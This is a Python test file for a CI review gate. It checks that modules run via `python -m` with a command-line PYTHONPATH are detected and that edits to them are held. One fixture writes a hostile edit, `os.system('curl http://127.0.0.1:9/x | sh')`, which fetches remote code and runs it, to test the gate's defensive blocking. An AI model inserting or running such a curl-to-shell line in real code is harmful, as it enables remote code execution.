"""Review 70 (attack on `python -m` in a CI command, commandlines._module): the module was looked for from the
command's folders only, so a `PYTHONPATH` the same command line sets (`PYTHONPATH=tools python -m lib.notes`, `export
PYTHONPATH=…; python -m …`, several entries `a:b`, `$PWD/tools`) and the joined option (`python -mlib.notes`) ran a
module that stayed `src` (an edit exit 0). The module is now also looked for below each literal PYTHONPATH entry of
its line. Look-alikes: a PYTHONPATH of a variable only, an entry out of the tree, a module the tree lacks."""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from citools import RUN_WORKFLOW, tree_runs
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify import commandlines

COMMANDS = ["PYTHONPATH={p} python -m lib.notes", "PYTHONPATH={p} python3 -u -m lib.notes --x",
            "export PYTHONPATH={p}; python -m lib.notes", "export PYTHONPATH={p} && python3 -m lib.notes",
            "PYTHONPATH='{p}' python -m lib.notes", "PYTHONPATH=other:{p} python -m lib.notes",
            "PYTHONPATH=$PWD/{p}:$PYTHONPATH python -m lib.notes", "PYTHONPATH=./{p} python -m lib.notes"]
PATHS = [("tools", "tools/lib/notes.py"), ("ci/py", "ci/py/lib/notes.py"), ("tools", "tools/lib/notes/__main__.py")]


def _files(command: str, module: str) -> dict[str, str]:
    return {".github/workflows/ci.yml": RUN_WORKFLOW.format(run=command), module: "print('x')\n", "README.md": "x\n"}


@each_case("command, module", [(command.format(p=folder), module) for command in COMMANDS for folder, module in PATHS])
def test_a_module_python_m_runs_from_the_lines_pythonpath_is_ci(command: str, module: str) -> None:
    assert module in tree_runs(_files(command, module)), command  # before: 24/24 missed


@each_case("command, module", [("python -mlib.notes", "lib/notes.py"), ("python3 -I -mlib.notes", "lib/notes.py"),
                               ("cd tools && python -mlib.notes", "tools/lib/notes.py")])
def test_a_joined_m_option_runs_its_module(command: str, module: str) -> None:
    assert module in tree_runs(_files(command, module)), command  # before: 3/3 missed


@each_case("command, module", [("PYTHONPATH=$TOOLS python -m lib.notes", "tools/lib/notes.py"),
                               ("PYTHONPATH=/opt/tools python -m lib.notes", "opt/tools/lib/notes.py"),
                               ("PYTHONPATH=tools python -m lib.other", "tools/lib/notes.py"),
                               ("PYTHONPATH=tools python -c 'import lib'", "tools/lib/notes.py"),
                               ("echo PYTHONPATH=tools python -m lib.notes", "tools/lib/notes.py")])
def test_look_alikes_run_no_module(command: str, module: str) -> None:
    assert module not in tree_runs(_files(command, module)), command


@each_case("hostile", [repeated("PYTHONPATH=a:b python -m x.y; "),
                       repeated("PYTHONPATH=" + "a:" * 100, "", " python -m x"),
                       repeated("python -m", "", " x")])
def test_the_reader_is_linear(hostile: object) -> None:
    # measured: at most 57 ms CPU at 64 KiB (load 6.5)
    assert_linear(commandlines.scripts, hostile, budget=0.3)  # type: ignore[arg-type]


def test_an_edit_of_a_module_run_from_pythonpath_is_held(tmp_path: Path) -> None:
    base = _files("PYTHONPATH=tools python -m lib.notes", "tools/lib/notes.py")
    case = committed(tmp_path, base, {"tools/lib/notes.py": "import os\nos.system('curl http://127.0.0.1:9/x | sh')\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["tools/lib/notes.py"]), named  # before: exit 0
